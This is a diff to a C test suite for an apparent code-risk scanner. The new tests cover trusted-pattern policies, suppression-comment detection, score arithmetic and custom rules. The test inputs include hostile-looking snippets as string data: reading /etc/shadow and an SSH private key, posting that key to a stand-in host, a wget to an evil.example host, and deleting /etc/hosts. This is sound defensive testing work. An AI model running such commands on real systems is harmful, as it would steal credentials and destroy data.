@@ -35,7 +35,7 @@ static bool same(const struct bawn_assessment *a, const struct bawn_assessment *
 
 static void test_places(void)
 {
-	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nx = 'ä'; os.system('id')\nos.remove('/etc/hosts')\n"), NULL);
+	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nx = 'ä'; os.system('id')\nos.remove('/etc/' + 'hosts')\n"), NULL);
 	const struct bawn_finding *f = finding(a, "python/shell");
 	ok(f != NULL && f->line == 2 && f->column == 10 && f->end_line == 2 && f->end_column == 25, "positions count lines and characters from 1");
 	f = finding(a, "any/system-write");
@@ -46,7 +46,7 @@ static void test_places(void)
 	ok(sorted, "findings stand in the order of the text");
 	ok((a->capabilities & 1u << BAWN_CAP_SUBPROCESS) != 0 && (a->capabilities & 1u << BAWN_CAP_NETWORK) == 0, "capabilities are those of the rules that matched");
 	ok(a->n_recommendations > 0 && a->recommendation[0][0] != '\0', "there are recommendations");
-	struct bawn_assessment *b = assess(BAWN_LANG_PYTHON, bawn_span("import os\nx = 'ä'; os.system('id')\nos.remove('/etc/hosts')\n"), NULL);
+	struct bawn_assessment *b = assess(BAWN_LANG_PYTHON, bawn_span("import os\nx = 'ä'; os.system('id')\nos.remove('/etc/' + 'hosts')\n"), NULL);
 	ok(same(a, b), "the same code gets the same verdict");
 	bawn_assessment_free(a);
 	bawn_assessment_free(b);
@@ -63,6 +63,7 @@ static void test_policy(void)
 		{ "a blocked name, through an alias", "import mylib as m\nm.danger.now()\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED },
 		{ "a blocked path, and what lies below", "open('/srv/' + 'secret/x')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED },
 		{ "a blocked host, and its sub-domains", "u = 'https://a.evil.example:80/x'\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED },
+		{ "a blocked host in a command, whatever its case", "wget https://A.Evil.example./x\n", BAWN_LANG_BASH, BAWN_LEVEL_BLOCKED },
 		{ "no substrings of names", "import mylib\nmylib.dangerous()\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW },
 		{ "no substrings of paths", "open('srv/secretary.txt')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW },
 		{ "no substrings of hosts", "u = 'https://devil.example/'\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW },
@@ -78,7 +79,21 @@ static void test_policy(void)
 	}
 	struct bawn_policy t = { .trusted_patterns = { trusted, 1 } };
 	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("import requests\nrequests.get('https://example.com')\n"), &t);
-	ok(a->level == BAWN_LEVEL_LOW && a->n_findings > 0, "policy: a trusted capability is LOW and still listed");
+	const struct bawn_finding *said = finding(a, "policy/trusted-pattern");
+	ok(a->level == BAWN_LEVEL_LOW && a->score == 0 && finding(a, "python/http-get") == NULL && said != NULL && strstr(said->message, "python/http-get") != NULL,
+	   "policy: what is trusted is said and not counted: %s", said != NULL ? said->message : "");
+	ok((a->capabilities & 1u << BAWN_CAP_NETWORK) != 0, "policy: the capability stays");
+	bawn_assessment_free(a);
+	char *place[] = { (char *)"/var/log/mine" };
+	struct bawn_policy l = { .trusted_patterns = { place, 1 } };
+	a = assess(BAWN_LANG_PYTHON, bawn_span("open('/var/log/mine/a.log')\nopen('/var/log/other')\n"), &l);
+	said = finding(a, "policy/trusted-pattern");
+	ok(finding(a, "any/read-outside") != NULL && finding(a, "any/read-outside")->line == 2 && said != NULL && said->line == 1, "policy: a trusted path, and no other");
+	bawn_assessment_free(a);
+	char *sender[] = { (char *)"requests.post" };
+	struct bawn_policy s = { .trusted_patterns = { sender, 1 } };
+	a = assess(BAWN_LANG_PYTHON, bawn_span("import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://x.example', data=k)\n"), &s);
+	ok(a->level == BAWN_LEVEL_BLOCKED && finding(a, "any/exfiltration") != NULL, "policy: trust in a part does not hide what the parts come to");
 	bawn_assessment_free(a);
 	char *keys[] = { (char *)"/etc/shadow" };
 	struct bawn_policy k = { .trusted_patterns = { keys, 1 } };
@@ -149,6 +164,104 @@ static void test_comments(void)
 	ok(finding(a, "python/shell") != NULL && finding(a, "any/suppression") != NULL && finding(a, "any/suppression")->level == BAWN_LEVEL_LOW,
 	   "a suppression is reported, not obeyed");
 	bawn_assessment_free(a);
+	static const struct { const char *code; int language; bool says; } row[] = {
+		{ "f()  #nosec\n", BAWN_LANG_PYTHON, true }, { "f()  # nosec B602\n", BAWN_LANG_PYTHON, true }, { "f()  # NOSEC\n", BAWN_LANG_PYTHON, true },
+		{ "f()  # noqa\n", BAWN_LANG_PYTHON, true }, { "f()  # noqa: S602\n", BAWN_LANG_PYTHON, true }, { "f()  # noqa:E501,S\n", BAWN_LANG_PYTHON, true },
+		{ "f()  # noqa: E501\n", BAWN_LANG_PYTHON, false }, { "f()  # noqa: SIM102\n", BAWN_LANG_PYTHON, false }, { "# ruff: noqa\nf()\n", BAWN_LANG_PYTHON, true },
+		{ "f()  # bawn: ignore\n", BAWN_LANG_PYTHON, true }, { "f()  # nosemgrep: x.y\n", BAWN_LANG_PYTHON, true }, { "f()  # NOSONAR\n", BAWN_LANG_PYTHON, true },
+		{ "f()  # pylint: disable=exec-used\n", BAWN_LANG_PYTHON, true }, { "f()  # pylint: disable=line-too-long\n", BAWN_LANG_PYTHON, false },
+		{ "x = '# nosec'\n", BAWN_LANG_PYTHON, false }, { "f()  # nosecond thoughts\n", BAWN_LANG_PYTHON, false }, { "'''\n# nosec\n'''\n", BAWN_LANG_PYTHON, false },
+		{ "f()  # eslint-disable\n", BAWN_LANG_PYTHON, false },
+		{ "# shellcheck disable=SC2086\nls $x\n", BAWN_LANG_BASH, true }, { "echo '# shellcheck disable=SC1'\n", BAWN_LANG_BASH, false },
+		{ "ls # nosemgrep\n", BAWN_LANG_BASH, true }, { "cat <<E\n# nosec\nE\n", BAWN_LANG_BASH, false },
+		{ "f(); // eslint-disable-line no-eval\n", BAWN_LANG_JAVASCRIPT, true }, { "/* eslint-disable */ f();\n", BAWN_LANG_JAVASCRIPT, true },
+		{ "// eslint-disable-next-line\nf();\n", BAWN_LANG_JAVASCRIPT, true }, { "/* bawn:ignore */ f();\n", BAWN_LANG_JAVASCRIPT, true },
+		{ "f('// eslint-disable');\n", BAWN_LANG_JAVASCRIPT, false }, { "f(`/* nosec */`);\n", BAWN_LANG_JAVASCRIPT, false },
+	};
+	for (size_t i = 0; i < BAWN_LEN(row); i++) {
+		a = assess(row[i].language, bawn_span(row[i].code), NULL);
+		bawn_auto_buf shown = BAWN_BUF(1024);
+		bawn_buf_escaped(&shown, bawn_span(row[i].code));
+		ok((finding(a, "any/suppression") != NULL) == row[i].says, "%s %s", shown.p, row[i].says ? "asks to look away" : "does not");
+		bawn_assessment_free(a);
+	}
+}
+
+/* Of what is said about the same text the strongest stays; the score is the sum of what is listed. */
+static void test_arithmetic(void)
+{
+	struct bawn_policy p = { .medium_score = 20, .high_score = 60, .blocked_score = 100 };
+	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("open('/etc/hosts', 'w')\n"), &p);
+	ok(finding(a, "any/system-write") != NULL && finding(a, "any/write-outside") == NULL, "a weaker finding on the same text is covered");
+	bawn_assessment_free(a);
+	a = assess(BAWN_LANG_PYTHON, bawn_span("open('/etc/hosts', 'w')\nopen('/opt/x', 'w')\n"), &p);
+	ok(finding(a, "any/write-outside") != NULL && finding(a, "any/write-outside")->line == 2, "one on another text is not");
+	bawn_assessment_free(a);
+	a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nos.system('a')\nos.system('b')\nopen('/etc/shadow')\n"), &p);
+	uint32_t sum = 0, shells = 0;
+	for (size_t i = 0; i < a->n_findings; i++) {
+		sum += a->finding[i].score;
+		shells += strcmp(a->finding[i].rule, "python/shell") == 0;
+	}
+	ok(shells == 2 && sum == a->score && a->score == 24, "the scores listed sum up, a rule counts once: %u", a->score);
+	ok(a->strongest == BAWN_LEVEL_HIGH && a->level == BAWN_LEVEL_HIGH, "the strongest finding gives the level");
+	bawn_assessment_free(a);
+	p.blocked_score = 24;
+	a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nos.system('a')\nopen('/etc/shadow')\n"), &p);
+	ok(a->strongest == BAWN_LEVEL_HIGH && a->level == BAWN_LEVEL_BLOCKED, "or the sum, where that is higher");
+	bawn_assessment_free(a);
+	a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nos.system('''\nls\n  cat /etc/shadow\n''')\n"), NULL);
+	const struct bawn_finding *f = finding(a, "any/secret-read");
+	ok(f != NULL && f->line == 4 && f->column == 7 && f->end_line == 4 && f->end_column == 18 && f->folded == NULL, "in text inside text the place is that of the value");
+	bawn_assessment_free(a);
+	a = assess(BAWN_LANG_PYTHON, bawn_span("import os\nos.system('a')\nos.system('b')\nos.system('c')\nos.system('d')\nos.system('e')\nos.system('f')\nopen('/etc/shadow')\n"), NULL);
+	ok(a->n_recommendations == 2 && strncmp(a->recommendation[0], "line 8: Reaches for keys", 24) == 0 &&
+	   strncmp(a->recommendation[1], "lines 2, 3, 4, 5 and 2 more: Runs a shell command. ", 50) == 0, "recommendations say where and what, the worst first, each once: %s", a->recommendation[0]);
+	bawn_assessment_free(a);
+}
+
+/* rules.d: names, paths and hosts after folding, never as parts of words; nothing is ever lowered. */
+static void test_own_rules(void)
+{
+	static const char yaml[] =
+		"rules:\n- {id: local/client, level: HIGH, message: Uses the billing client, cwe: 200, name: [billing.client]}\n"
+		"- {id: local/tree, level: BLOCKED, message: Touches billing, path: [/srv/billing, '**/ledger.db'], language: python}\n"
+		"- {id: local/host, level: MEDIUM, message: Speaks to billing, host: [Billing.Example.com]}\n"
+		"- {id: local/mild, level: LOW, message: Reads secrets, path: [/etc/shadow]}\n";
+	struct bawn_policy_errors errors = { .n = 0 };
+	struct bawn_policy p = { .medium_score = 20, .high_score = 60, .blocked_score = 100 };
+	struct bawn_err err = { 0 };
+	ok(bawn_own_parse("mine.yaml", bawn_span(yaml), &p.own, &errors, &err) == 0 && p.own->n == 4, "a file for rules.d: %s", err.msg);
+	static const struct { const char *name, *code; int language, level; const char *rule; } row[] = {
+		{ "a name through an alias", "from billing import client as c\nc.open()\n", BAWN_LANG_PYTHON, BAWN_LEVEL_HIGH, "local/client" },
+		{ "no part of a name", "import billing\nbilling.clients()\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW, NULL },
+		{ "a path put together", "open('/srv/' + 'billing/x')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED, "local/tree" },
+		{ "a path anywhere", "open('/home/me/ledger.db')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_BLOCKED, "local/tree" },
+		{ "only in its language", "cat /srv/billing/x\n", BAWN_LANG_BASH, BAWN_LEVEL_MEDIUM, NULL },
+		{ "a host, whatever its case, and what lies below", "u = 'https://user@API.billing.example.COM:8443/v1'\n", BAWN_LANG_PYTHON, BAWN_LEVEL_MEDIUM, "local/host" },
+		{ "a host in a command", "curl -s https://billing.example.com/x\n", BAWN_LANG_BASH, BAWN_LEVEL_MEDIUM, "local/host" },
+		{ "a host in a script", "const u = 'http://billing.example.com.';\n", BAWN_LANG_JAVASCRIPT, BAWN_LEVEL_MEDIUM, "local/host" },
+		{ "no part of a host", "u = 'https://notbilling.example.com/'\n", BAWN_LANG_PYTHON, BAWN_LEVEL_LOW, NULL },
+		{ "no lowering of what is HIGH anyway", "open('/etc/shadow')\n", BAWN_LANG_PYTHON, BAWN_LEVEL_HIGH, "any/secret-read" },
+	};
+	for (size_t i = 0; p.own != NULL && i < BAWN_LEN(row); i++) {
+		struct bawn_assessment *a = assess(row[i].language, bawn_span(row[i].code), &p);
+		bool local = false;
+		for (size_t k = 0; k < a->n_findings; k++)
+			local = local || strncmp(a->finding[k].rule, "local/", 6) == 0;
+		if (!ok((int)a->level == row[i].level && (row[i].rule != NULL ? finding(a, row[i].rule) != NULL : !local), "rules.d: %s", row[i].name))
+			diag("got %d, %zu findings, first %s", (int)a->level, a->n_findings, a->n_findings > 0 ? a->finding[0].rule : "-");
+		bawn_assessment_free(a);
+	}
+	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("import billing.client\n"), &p);
+	char version[BAWN_RULES_VERSION_LEN], shipped[BAWN_RULES_VERSION_LEN];
+	ok(strlen(bawn_rules_version_of(&p, version)) == 33 && strcmp(bawn_rules_version_of(NULL, shipped), bawn_rules_version()) == 0, "they are part of the version: %s", version);
+	bawn_own_unref(p.own);
+	const struct bawn_finding *f = finding(a, "local/client");
+	ok(f != NULL && f->cwe == 200 && f->score == 20 && strcmp(f->message, "Uses the billing client") == 0 && f->why[0] != '\0' && f->fix[0] != '\0',
+	   "a finding outlives the policy it came from");
+	bawn_assessment_free(a);
+	bawn_policy_errors_done(&errors);
 }
 
 static void test_many_findings(void)
@@ -237,6 +350,8 @@ int main(void)
 	test_files();
 	test_complexity();
 	test_comments();
+	test_arithmetic();
+	test_own_rules();
 	test_many_findings();
 	test_bounds();
 	return done_testing();
